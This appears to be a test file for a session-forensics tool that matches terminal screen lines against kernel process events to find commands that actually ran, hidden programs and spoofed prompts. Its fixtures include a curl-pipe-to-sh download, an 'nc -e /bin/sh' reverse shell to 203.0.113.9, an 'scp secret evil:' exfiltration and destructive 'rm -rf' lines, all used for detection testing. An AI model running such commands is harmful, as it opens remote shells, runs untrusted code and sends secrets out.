import fc from 'fast-check';
import { expect, test } from 'vitest';
import { deriveCommands, programsIn } from './commands.js';
import type { Marked, Ran, ShownLine } from './commands.js';

const PROMPT = 'deploy@web-3:~$';
const line = (offset: number, text: string): ShownLine => ({ place: `1.${offset}`, offset, text });
const shell: readonly Ran[] = [
  { kind: 'fork', offset: 0, pid: 1, child: 100 },
  { kind: 'exec', offset: 5, pid: 100, parent: 1, path: '/bin/bash', text: '-bash' },
];
/** A program that `parent` starts, and its end. */
const run = (offset: number, pid: number, text: string, lasts = 50, how = '0', parent = 100): readonly Ran[] => [
  { kind: 'fork', offset: offset - 2, pid: parent, child: pid },
  { kind: 'exec', offset, pid, parent, path: `/usr/bin/${text.split(' ')[0]!}`, text },
  { kind: 'exit', offset: offset + lasts, pid, how },
];
const inOrder = (...events: readonly (readonly Ran[])[]): readonly Ran[] => events.flat().sort((a, b) => a.offset - b.offset);

test('a command is a line after a prompt, with the programs that the shell started for it and their exit code', () => {
  const lines = [
    line(1_000, `${PROMPT} ls -la /srv`),
    line(2_000, 'total 24'),
    line(5_000, 'deploy@web-3:/srv$ cd /tmp'),
    line(6_000, 'deploy@web-3:/tmp$ make 2>&1 | tee log'),
    line(6_500, 'make: *** [all] Error 1'),
  ];
  const events = inOrder(shell, run(1_100, 101, 'ls -la /srv'), run(6_050, 102, 'make', 900, '2'), run(6_060, 103, 'tee log', 950));
  const { commands, hidden } = deriveCommands(lines, events, 9_000);
  expect(commands.map(({ text, verdict, known, ran, exit, lasted }) => [text, verdict, known, ran, exit, lasted])).toEqual([
    ['ls -la /srv', 'ran', 'kernel', ['ls -la /srv'], '0', 50],
    ['cd /tmp', 'builtin', 'screen', [], null, null],
    ['make 2>&1 | tee log', 'ran', 'kernel', ['make', 'tee log'], '0', 960],
  ]);
  expect(commands.map(({ at, until, prompt }) => [at, until, prompt])).toEqual([
    [1_000, 5_000, PROMPT],
    [5_000, 6_000, 'deploy@web-3:/srv$'],
    [6_000, 9_000, 'deploy@web-3:/tmp$'],
  ]);
  expect(hidden).toEqual([]);
});

test('a line that imitates a prompt was shown but never ran; an alias ran under another name', () => {
  const lines = [
    line(1_000, `${PROMPT} ll`),
    line(3_000, `${PROMPT} printf '...'`),
    line(3_010, `${PROMPT} rm -rf /var/backups`),
    line(8_000, `${PROMPT} FOO=1 nosuchprogram --now`),
  ];
  const { commands } = deriveCommands(lines, inOrder(shell, run(1_100, 101, 'ls -l'), run(900, 99, 'id')), 9_000);
  // No prompt is learned from a line `ll`, because its program has another name.
  expect(commands).toEqual([]);
  const learned = deriveCommands(
    [line(500, `${PROMPT} ls`), ...lines],
    inOrder(shell, run(600, 98, 'ls'), run(1_100, 101, 'ls -l')),
    9_000,
  );
  expect(learned.commands.map(({ text, verdict }) => [text, verdict])).toEqual([
    ['ls', 'ran'],
    ['ll', 'ran'],
    ["printf '...'", 'builtin'],
    ['rm -rf /var/backups', 'never_ran'],
    ['FOO=1 nosuchprogram --now', 'never_ran'],
  ]);
});

test('a program that no line names is reported as hidden, with its parent and a count', () => {
  const lines = [line(1_000, `${PROMPT} curl -s http://203.0.113.9/x | sh`), line(20_000, `${PROMPT} id`)];
  const events = inOrder(
    shell,
    run(1_100, 101, 'curl -s http://203.0.113.9/x', 700),
    run(1_110, 102, 'sh', 900),
    run(1_500, 103, 'nc -e /bin/sh 203.0.113.9 4444', 60_000, 'SIGKILL', 102),
    run(1_600, 104, 'sleep 1', 10, '0', 102),
    run(1_700, 105, 'sleep 1', 10, '0', 102),
    run(20_100, 106, 'id'),
  );
  const { commands, hidden } = deriveCommands(lines, events, 30_000);
  expect(hidden.map(({ text, by, times, direct, inside, at, last }) => [text, by, times, direct, inside, at, last])).toEqual([
    ['nc -e /bin/sh 203.0.113.9 4444', 'sh', 1, false, '1.1000', 1_500, 1_500],
    ['sleep 1', 'sh', 2, false, '1.1000', 1_600, 1_700],
  ]);
  expect(commands[0]).toMatchObject({ programs: 5, ran: ['curl -s http://203.0.113.9/x', 'sh'] });
});

test('a hidden program that the shell itself started, as when typing is not echoed, is reported as direct', () => {
  const lines = [line(1_000, `${PROMPT} ls`), line(20_000, `${PROMPT}`)];
  const events = inOrder(shell, run(1_100, 101, 'ls'), run(15_000, 102, 'scp secret evil:', 9_000, '1'));
  const { hidden, commands } = deriveCommands(lines, events, 30_000);
  expect(commands).toMatchObject([{ text: 'ls', ran: ['ls'], exit: '0', lasted: 50 }]);
  expect(hidden).toMatchObject([{ text: 'scp secret evil:', direct: true, by: '-bash' }]);
});

test('without kernel events, or with a gap in them, no command is reported as never run', () => {
  const lines = [line(1_000, `${PROMPT} ls`), line(5_000, `${PROMPT} rm -rf /srv`), line(90_000, `${PROMPT} reboot`)];
  const gap: Ran = { kind: 'gap', offset: 4_000, until: 6_000 };
  const verdicts = (events: readonly Ran[]): string[] => deriveCommands(lines, events, 99_000).commands.map(({ verdict }) => verdict);
  expect(verdicts(inOrder(shell, run(1_100, 101, 'ls')))).toEqual(['ran', 'never_ran', 'never_ran']);
  expect(verdicts(inOrder(shell, run(1_100, 101, 'ls'), [gap]))).toEqual(['ran', 'unknown', 'never_ran']);
  expect(verdicts([])).toEqual(['unknown', 'unknown', 'unknown']);
});

test.each([
  ['a | b && c; d || e &', ['a', 'b', 'c', 'd', 'e']],
  ['X=1 Y=2 /usr/bin/env python3 -c "import os; os.system(\'x\')"', ['env']],
  ['echo $(id -u) `whoami` # ls', ['echo', 'id', 'whoami']],
  ['> /tmp/x', []],
  ['! grep -q x y', ['grep']],
  ["'; rm -rf /'", ['x']],
])('the programs of %s', (text, programs) => expect(programsIn(text)).toEqual(programs));

test('for any screen and kernel events, derivation ends, stays in bounds, and no command both ran and did not run', () => {
  const texts = fc.oneof(fc.string({ maxLength: 200 }), fc.constantFrom(`${PROMPT} ls`, '$ $ $ $', '#'.repeat(4_000), '\u202e$ \u0000'));
  const rows = fc.array(fc.tuple(fc.nat(20), fc.nat(9_999), fc.nat(5), fc.nat(5), texts), { maxLength: 60 });
  fc.assert(
    fc.property(rows, fc.array(fc.tuple(fc.nat(9_999), texts), { maxLength: 60 }), (events, lines) => {
      const ran = events.map(([kind, offset, pid, other, text]): Ran =>
        kind < 6
          ? { kind: 'fork', offset, pid, child: other }
          : kind < 16
            ? { kind: 'exec', offset, pid, parent: other, path: `/bin/${text}`, text: kind < 9 ? 'bash' : text }
            : { kind: 'exit', offset, pid, how: text },
      );
      const { commands, hidden } = deriveCommands(
        lines.map(([offset, text], i) => ({ place: `1.${i}`, offset, text })),
        [...ran].sort((a, b) => a.offset - b.offset),
        10_000,
      );
      for (const { ran: programs, verdict, at, until } of commands) {
        expect(verdict === 'ran').toBe(programs.length > 0);
        expect(until).toBeGreaterThanOrEqual(at);
      }
      expect(hidden.length).toBeLessThanOrEqual(ran.length);
    }),
  );
});

const begin = (offset: number, text: string, prompt = '❯'): Marked => ({ kind: 'begin', offset, prompt, text });
const ended = (offset: number, exit: string): Marked => ({ kind: 'end', offset, exit });

test('a command that the shell marked has its exit code, whatever the prompt looks like; kernel events still decide whether it ran', () => {
  const lines = [line(1_000, '❯ make'), line(1_500, 'no rule'), line(4_000, '❯ cd /srv'), line(6_000, '❯ rm -rf /var/backups')];
  const marks = [
    ended(500, '0'),
    begin(1_010, 'make'),
    ended(3_000, '2'),
    begin(4_010, 'cd /srv'),
    ended(4_015, '0'),
    begin(6_010, 'rm -rf /var/backups'),
  ];
  const events = inOrder(shell, run(1_100, 101, 'make', 900, '2'));
  const { commands } = deriveCommands(lines, events, 9_000, marks);
  expect(commands.map(({ at, place, text, known, verdict, exit, lasted }) => [at, place, text, known, verdict, exit, lasted])).toEqual([
    [1_000, '1.1000', 'make', 'marks', 'ran', '2', 1_990],
    [4_000, '1.4000', 'cd /srv', 'marks', 'builtin', '0', 5],
    // The marks were printed by a program: nothing ran.
    [6_000, '1.6000', 'rm -rf /var/backups', 'marks', 'never_ran', null, null],
  ]);
  expect(deriveCommands(lines, [], 9_000, marks).commands.map(({ known, verdict }) => [known, verdict])).toEqual([
    ['marks', 'unknown'],
    ['marks', 'builtin'],
    ['marks', 'unknown'],
  ]);
});

test('commands of a shell without marks appear beside those of a shell with marks, and no line is reported twice', () => {
  const lines = [line(1_000, '❯ sudo -i'), line(2_000, 'root@web:~# ls'), line(3_000, 'root@web:~# id'), line(9_000, '❯ ls')];
  const marks = [begin(1_001, 'sudo -i'), ended(8_000, '0'), begin(9_001, 'ls'), ended(9_002, '')];
  const { commands } = deriveCommands(lines, [], 10_000, marks);
  expect(commands.map(({ text, known, exit }) => [text, known, exit])).toEqual([
    ['sudo -i', 'marks', '0'],
    ['ls', 'screen', null],
    ['id', 'screen', null],
    ['ls', 'marks', null],
  ]);
});

test('any marks over any lines give commands in order, each at its own position', () => {
  const words = fc.constantFrom('ls', 'id', '', 'make all', '❯ ls');
  const anyMark: fc.Arbitrary<Marked> = fc.oneof(
    fc.tuple(fc.nat(5_000), words, fc.constantFrom('❯', '', PROMPT)).map(([offset, text, prompt]) => begin(offset, text, prompt)),
    fc.tuple(fc.nat(5_000), fc.constantFrom('', '0', '3')).map(([offset, exit]) => ended(offset, exit)),
  );
  const anyLine = fc
    .tuple(fc.nat(5_000), fc.constantFrom('❯', PROMPT, 'x'), words)
    .map(([offset, prompt, text]) => line(offset, `${prompt} ${text}`));
  fc.assert(
    fc.property(
      fc.array(anyMark, { maxLength: 12 }),
      fc.uniqueArray(anyLine, { maxLength: 12, selector: ({ place }) => place }),
      (marks, lines) => {
        const ordered = marks.toSorted((a, b) => a.offset - b.offset);
        const { commands } = deriveCommands(lines, [], 6_000, ordered);
        expect(commands.map(({ at }) => at)).toEqual(commands.map(({ at }) => at).toSorted((a, b) => a - b));
        expect(new Set(commands.map(({ place }) => place)).size).toBe(commands.length);
        expect(commands.filter(({ known }) => known === 'marks')).toHaveLength(
          ordered.filter((mark) => mark.kind === 'begin' && mark.text !== '').length,
        );
        for (const { lasted } of commands) expect(lasted ?? 0).toBeGreaterThanOrEqual(0);
      },
    ),
  );
});
